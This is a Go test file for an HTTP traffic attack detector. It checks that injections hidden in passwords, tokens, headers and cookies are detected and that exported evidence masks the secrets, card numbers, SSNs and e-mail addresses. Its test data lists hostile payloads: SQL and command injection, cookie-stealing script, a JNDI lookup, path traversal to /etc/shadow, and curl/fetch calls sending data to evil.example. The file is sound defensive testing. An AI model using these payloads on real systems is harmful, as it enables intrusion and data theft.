package attack

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/apitap/apitap/analyzer/event"
	"github.com/apitap/apitap/reassembly/http1"
)

// credentialCase puts a secret followed by an injection into one
// credential location of a request.
type credentialCase struct {
	where string
	req   func(secret, payload string) []byte
}

func wireReq(method, target string, headers []string, ct, body string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: api.example\r\n", method, target)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", ct, len(body))
	}
	b.WriteString("\r\n" + body)
	return []byte(b.String())
}

var credentialCases = []credentialCase{
	{"form password", func(s, p string) []byte {
		return wireReq("POST", "/login", nil, "application/x-www-form-urlencoded", "username=anna&password="+url.QueryEscape(s+p))
	}},
	{"JSON password", func(s, p string) []byte {
		return wireReq("POST", "/v1/session", nil, "application/json", `{"user":"anna","password":`+jsonString(s+p)+`}`)
	}},
	{"JSON nested secret", func(s, p string) []byte {
		return wireReq("PUT", "/v1/integrations/7", nil, "application/json", `{"config":{"client_secret":`+jsonString(s+p)+`,"enabled":true}}`)
	}},
	{"query api_key", func(s, p string) []byte {
		return wireReq("GET", "/v1/items?page=1&api_key="+url.QueryEscape(s+p), nil, "", "")
	}},
	{"query token", func(s, p string) []byte {
		return wireReq("GET", "/v1/export?token="+url.QueryEscape(s+p), nil, "", "")
	}},
	{"multipart password", func(s, p string) []byte {
		body := "--XyZ\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n" + s + p + "\r\n--XyZ--\r\n"
		return wireReq("POST", "/v1/signup", nil, "multipart/form-data; boundary=XyZ", body)
	}},
	{"Authorization Bearer", func(s, p string) []byte {
		return wireReq("GET", "/v1/me", []string{"Authorization: Bearer " + s + p}, "", "")
	}},
	{"Authorization Basic", func(s, p string) []byte {
		return wireReq("GET", "/v1/me", []string{"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("anna:"+s+p))}, "", "")
	}},
	{"X-Api-Key", func(s, p string) []byte {
		return wireReq("GET", "/v1/items", []string{"X-Api-Key: " + s + p}, "", "")
	}},
	{"X-Auth-Token", func(s, p string) []byte {
		return wireReq("GET", "/v1/items", []string{"X-Auth-Token: " + s + p}, "", "")
	}},
	{"session cookie", func(s, p string) []byte {
		return wireReq("GET", "/v1/items", []string{"Cookie: theme=dark; session=" + url.QueryEscape(s+p)}, "", "")
	}},
	{"cookie name", func(s, p string) []byte {
		return wireReq("GET", "/v1/items", []string{"Cookie: " + url.QueryEscape(s+p) + "=1"}, "", "")
	}},
}

// credentialPayloads are injections appended to a secret, with what of
// them must be shown.
var credentialPayloads = []struct{ payload, shown string }{
	{"' OR '1'='1", "' OR '1'='1"},
	{"'; DROP TABLE users--", "DROP TABLE users"},
	{";cat /etc/passwd", "cat /etc/passwd"},
	{"<script>alert(document.cookie)</script>", "<script>"},
	{"${jndi:ldap://evil.example/a}", "jndi:ldap"},
	{"/../../../../etc/shadow", "etc/shadow"},
}

// TestEvidenceRedaction feeds every credential location with a secret
// and an injection after it: every injection is detected, the evidence
// shows what matched, and no detection event (as encoded for export)
// carries the secret, with or without the deep check.
func TestEvidenceRedaction(t *testing.T) {
	for _, mode := range []string{"fast", "deep"} {
		st := newTestState(t)
		if mode == "deep" {
			st = deepState(t)
		}
		w := newWorker(st)
		var lim http1.Limits
		var hst http1.Stats
		conn := http1.NewConn(&lim, &hst, nil)
		enc := event.Encoder{Sensor: "test"}
		for i, c := range credentialCases {
			for j, p := range credentialPayloads {
				secret := fmt.Sprintf("Tr0ub4dor%02d%02dQx", i, j)
				if c.where == "Authorization Bearer" || c.where == "X-Api-Key" {
					secret = fmt.Sprintf("sk_live_51H8qZ%02d%02dkLmN", i, j)
				}
				var col collector
				w.agg = newWorker(st).agg
				raw := c.req(secret, p.payload)
				wireAnalyze(w, raw, conn, &lim, &hst, &col)
				if len(col.Detections) == 0 {
					t.Errorf("%s %s: %q not detected", mode, c.where, p.payload)
					continue
				}
				shown := false
				for k := range col.Detections {
					out := string(enc.AppendDetection(nil, &col.Detections[k]))
					if strings.Contains(out, secret) || strings.Contains(out, secret[:9]) {
						t.Errorf("%s %s: the secret is in the event: %s", mode, c.where, out)
					}
					lo := strings.ToLower(out)
					shown = shown || strings.Contains(lo, strings.ToLower(jsonEscapedHTML(p.shown))) || strings.Contains(lo, strings.ToLower(p.shown))
				}
				if !shown {
					t.Errorf("%s %s: the evidence does not show %q: %+v", mode, c.where, p.shown, col.Detections)
				}
			}
		}
	}
}

// jsonEscapedHTML is s as the event encoder writes it in a JSON string.
func jsonEscapedHTML(s string) string {
	return strings.NewReplacer("<", `\u003c`, ">", `\u003e`, "&", `\u0026`, `"`, `\"`).Replace(s)
}

// TestEvidencePersonalData: cards, SSNs and e-mail addresses inside an
// injection are masked in the evidence.
func TestEvidencePersonalData(t *testing.T) {
	w := newWorker(newTestState(t))
	enc := event.Encoder{Sensor: "test"}
	for _, c := range []struct{ payload, secret string }{
		{"' UNION SELECT name FROM cards WHERE pan='4111 1111 1111 1111'--", "1111 1111"},
		{"' OR ssn='123-45-6789'--", "123-45-6789"},
		{"1; SELECT * FROM users WHERE email='jane.doe@example.com'", "jane.doe@example.com"},
		{"<script>fetch('https://evil.example/?c=5500-0000-0000-0004')</script>", "0000-0000-0004"},
		{"; curl https://evil.example/?t=AKIA4XYZQ7PLMN2BVC8D", "AKIA4XYZQ7PLMN2BVC8D"},
	} {
		var col collector
		w.agg = newWorker(w.st).agg
		w.Analyze(mk("GET", "/v1/search", "q="+url.QueryEscape(c.payload), nil, "", ""), &col)
		if len(col.Detections) == 0 {
			t.Errorf("%q not detected", c.payload)
			continue
		}
		for k := range col.Detections {
			if out := string(enc.AppendDetection(nil, &col.Detections[k])); strings.Contains(out, c.secret) {
				t.Errorf("%q: %q in the event: %s", c.payload, c.secret, out)
			}
		}
	}
}

// TestBasicDecodeAllocs: Basic credentials are decoded into the worker's
// buffers; a clean credential seen before costs one allocation (the
// decoded text as a string), not a decoded copy as well.
func TestBasicDecodeAllocs(t *testing.T) {
	w := newWorker(newTestState(t))
	h := http1.Header{Name: "Authorization", Value: "Basic " + base64.StdEncoding.EncodeToString([]byte("partner-batch:9f8e7d6c5b4a39281706f5e4d3c2b1a0"))}
	if !w.authorization(&h) {
		t.Fatal("not read as Basic")
	}
	if n := testing.AllocsPerRun(100, func() { w.authorization(&h) }); n > 1 {
		t.Errorf("a Basic credential allocates %v times", n)
	}
}
